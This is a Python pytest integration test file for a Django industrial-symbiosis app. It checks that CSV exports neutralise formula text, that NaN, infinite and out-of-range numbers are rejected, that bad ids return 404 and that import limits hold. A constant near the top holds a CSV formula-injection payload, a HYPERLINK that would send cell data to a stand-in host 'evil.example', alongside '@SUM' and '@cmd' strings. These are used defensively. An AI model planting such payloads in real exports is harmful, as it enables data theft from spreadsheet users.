"""Integration: symbiosis against bad input: exports (flows.csv, the CLI's proposals and allocation)
write formula-like text inert; NaN, Infinity and out-of-range numbers are refused in flows, reports,
impact factors and allocation runs; bad ids are a 404, not a 500; the exchanges import obeys the limits."""

from __future__ import annotations

import csv
import io
import math

import pytest
from click.testing import CliRunner
from django.core.exceptions import ValidationError
from django.test import Client

from helix.cli import main
from helix.symbiosis import allocation, impact, matching, receivers, synergy_workflow, validation
from helix.symbiosis.models import AllocationRun, ImpactFactorSetting, ResourceFlow, Synergy
from tests.factories import UserFactory
from tests.symbiosis.helpers import world

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def logged_in(user) -> Client:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(user)
    return client


def messages_of(response) -> list[str]:  # type: ignore[no-untyped-def]
    return [str(m) for m in response.context["messages"]]


# --- exports -----------------------------------------------------------------------------------------


def test_flows_csv_writes_formula_text_inert_and_numbers_as_numbers():
    w = world()
    ResourceFlow.objects.filter(pk=w.slag.pk).update(title=ATTACK, description="@SUM(1)")

    response = logged_in(w.staff).get("/symbiosis/flows.csv")

    rows = {r["ID"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    slag = rows[str(w.slag.pk)]
    assert (slag["Title"], slag["Quantity"], slag["Hazardous"]) == ("'" + ATTACK, "4000.0", "false")


def test_cli_proposals_and_allocation_write_formula_text_inert(tmp_path):
    w = world()
    ResourceFlow.objects.filter(pk=w.heat.pk).update(title=ATTACK)
    ResourceFlow.objects.filter(pk=w.heat_want.pk).update(title="@cmd heating")
    runner = CliRunner()
    proposals, allocation = tmp_path / "proposals.csv", tmp_path / "allocation.csv"

    matched = runner.invoke(main, ["symbiosis", "match", "--as", "officer", "--output", str(proposals)])
    allocated = runner.invoke(
        main,
        [
            "symbiosis",
            "allocate",
            "--region",
            "oost-vlaanderen",
            "--as",
            "officer",
            "--output",
            str(allocation),
        ],
    )

    assert (matched.exit_code, allocated.exit_code) == (0, 0), matched.output + allocated.output
    heat = [r for r in csv.DictReader(io.StringIO(proposals.read_text())) if r["want"] == "'@cmd heating"]
    assert [r["have"] for r in heat] == ["'" + ATTACK]
    assert float(heat[0]["score"]) > 0
    assigned = list(csv.DictReader(io.StringIO(allocation.read_text())))
    assert [(a["have"], a["want"]) for a in assigned] == [("'" + ATTACK, "'@cmd heating")]


# --- numbers -----------------------------------------------------------------------------------------


def test_an_impact_factor_that_is_not_a_finite_number_is_refused_on_the_page():
    world()
    client = logged_in(UserFactory(username="admin", is_superuser=True))  # factors: the superuser's

    for value in ("nan", "NaN", "inf", "-Infinity", "1e999"):
        response = client.post(
            "/symbiosis/impact-factors/",
            {"key": "truck_kgco2e_per_tkm", "value": value, "source": "x"},
            follow=True,
        )
        assert (value, messages_of(response)) == (value, ["A number of at least 0 was expected."])
    assert ImpactFactorSetting.objects.count() == 0


def test_the_impact_factor_service_refuses_nan_and_infinity_whoever_calls_it():
    world()
    admin = UserFactory(username="admin", is_superuser=True)  # the only one who may edit factors
    for value in (math.nan, math.inf):
        with pytest.raises(ValidationError) as refused:
            impact.set_factor(admin, "truck_kgco2e_per_tkm", value)
        assert refused.value.message_dict == {"value": ["Give a number from 0 to 1e+15."]}
    assert ImpactFactorSetting.objects.count() == 0


def test_an_allocation_run_with_a_fixed_cost_that_is_not_a_number_is_refused():
    w = world()

    response = logged_in(w.staff).post("/symbiosis/allocate/", {"fixed_cost_per_link": "nan"}, follow=True)

    assert messages_of(response) == ["The fixed cost per link must be a number of at least zero."]
    assert AllocationRun.objects.count() == 0
    with pytest.raises(ValidationError) as refused:
        allocation.start_allocation(w.staff, "", math.inf)
    assert refused.value.message_dict == {"fixed_cost_per_link": ["Give a number from 0 to 1e+15."]}


FLOW_CASES = [
    ({"quantity": math.nan}, {"quantity": ["Give a number from -1e+15 to 1e+15."]}),
    ({"quantity": 1e308}, {"quantity": ["Give a number from -1e+15 to 1e+15."]}),
    (
        {"disposal_cost_eur_per_unit": -math.inf},
        {"disposal_cost_eur_per_unit": ["Give a number from -1e+15 to 1e+15."]},
    ),
    ({"max_distance_km": -5.0}, {"max_distance_km": ["Give a number from 0 to 1e+15."]}),
    (
        {"quality": {"moisture_pct": math.nan}},
        {"quality": ['Give numbers by name, e.g. {"moisture_pct": 12}.']},
    ),
    ({"quality": {"moisture_pct": 1e300}}, {"quality": ['Give numbers by name, e.g. {"moisture_pct": 12}.']}),
]


def test_a_flow_with_a_number_that_is_not_one_or_out_of_range_is_refused():
    w = world()
    for fields, errors in FLOW_CASES:
        flow = ResourceFlow.objects.get(pk=w.slag.pk)
        for name, value in fields.items():
            setattr(flow, name, value)

        with pytest.raises(ValidationError) as refused:
            validation.validate_flow(flow)

        assert refused.value.message_dict == errors


def test_a_heat_flow_below_absolute_zero_is_refused():
    w = world()
    flow = ResourceFlow.objects.get(pk=w.heat.pk)
    flow.supply_temperature_c, flow.return_temperature_c = -300.0, -400.0

    with pytest.raises(ValidationError) as refused:
        validation.validate_flow(flow)

    assert refused.value.message_dict == {
        "supply_temperature_c": ["Give a number from -273.15 to 1e+15."],
        "return_temperature_c": ["Give a number from -273.15 to 1e+15."],
    }


def test_the_flow_form_refuses_nan_as_a_quality_attribute():
    w = world()

    response = logged_in(w.steel_user).post(
        "/symbiosis/flows/new/",
        {
            "direction": "have",
            "kind": "material",
            "title": "Scale",
            "site": w.steel.sites.first().pk,
            "ewc_code": "10 02 10",
            "quantity": "10",
            "unit": "t",
            "period": "year",
            "quality_moisture_pct": "NaN",
            "confidentiality": "public",
            "status": "active",
        },
    )

    assert response.status_code == 200
    assert response.context["form"].errors["quality_moisture_pct"] == ["Enter a number."]
    assert not ResourceFlow.objects.filter(title="Scale").exists()


REPORT_CASES = [
    ({"quantity": math.nan}, {"quantity": ["Give a number from 0 to 1e+15."]}),
    ({"quantity": -3.0}, {"quantity": ["Give a number from 0 to 1e+15."]}),
    (
        {"quantity": 5.0, "co2e_avoided_t": math.inf},
        {"co2e_avoided_t": ["Give a number from -1e+15 to 1e+15."]},
    ),
    (
        {"quantity": 5.0, "money_saved_eur": 1e300},
        {"money_saved_eur": ["Give a number from -1e+15 to 1e+15."]},
    ),
]


def test_a_report_with_a_number_that_is_not_one_is_refused():
    import datetime as dt

    w = world()
    matching.run_matching()
    synergy = Synergy.objects.get(have=w.slag, want=w.slag_want)
    Synergy.objects.filter(pk=synergy.pk).update(state="realised")
    synergy.refresh_from_db()

    for numbers, errors in REPORT_CASES:
        with pytest.raises(ValidationError) as refused:
            synergy_workflow.report(w.staff, synergy, period_end=dt.date(2025, 3, 31), unit="t", **numbers)
        assert refused.value.message_dict == errors
    assert synergy.reports.count() == 0
    synergy_workflow.report(w.staff, synergy, period_end=dt.date(2025, 3, 31), unit="t", quantity=5.0)
    assert synergy.reports.count() == 1


# --- ids and the exchanges import --------------------------------------------------------------------


def test_a_new_flow_for_an_organisation_id_that_is_none_is_a_404():
    w = world()
    client = logged_in(w.staff)
    for organisation in ("99999999999999999999999", "²", "0"):
        response = client.get(f"/symbiosis/flows/new/?organisation={organisation}")
        assert (organisation, response.status_code) == (organisation, 404)
    assert client.get(f"/symbiosis/flows/new/?organisation={w.steel.pk}").status_code == 200


def test_the_exchanges_import_obeys_the_row_and_column_limits(settings):
    from tests.core.symbiosis.test_receivers import corpus

    text = corpus()
    rows = len(text.strip().splitlines()) - 1
    settings.HELIX_IMPORT_MAX_ROWS = rows - 1
    with pytest.raises(ValidationError) as too_long:
        receivers.import_exchanges(text, "corpus.csv")
    assert too_long.value.messages[0].startswith(f"corpus.csv, line {rows + 1}: more than {rows - 1} rows;")
    settings.HELIX_IMPORT_MAX_ROWS, settings.HELIX_IMPORT_MAX_COLUMNS = rows, 3
    with pytest.raises(ValidationError) as too_wide:
        receivers.import_exchanges(text, "corpus.csv")
    assert too_wide.value.messages[0].endswith(
        "columns; an import reads at most 3 (HELIX_IMPORT_MAX_COLUMNS)"
    )
